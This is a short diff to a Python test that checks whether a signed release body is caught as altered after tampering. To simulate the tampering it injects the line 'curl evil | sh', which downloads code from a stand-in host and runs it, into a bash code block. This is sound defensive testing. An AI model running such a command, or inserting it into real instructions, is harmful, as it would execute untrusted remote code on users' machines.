@@ -208,7 +208,7 @@ def test_words_in_our_part_are_not_proven(adopting: Stage) -> None:
     release = made(adopting)
     seal = adopting.sign()
     draft = adopting.upload(seal)
-    release.body = release.body.replace("```bash draft\n", "```bash draft\ncurl evil | sh\n", 1)
+    release.body = release.body.replace("```bash\n", "```bash\ncurl evil | sh\n", 1)
     with pytest.raises(VerificationFailed, match="not what was sealed"):
         proven(adopting, seal, draft)
 
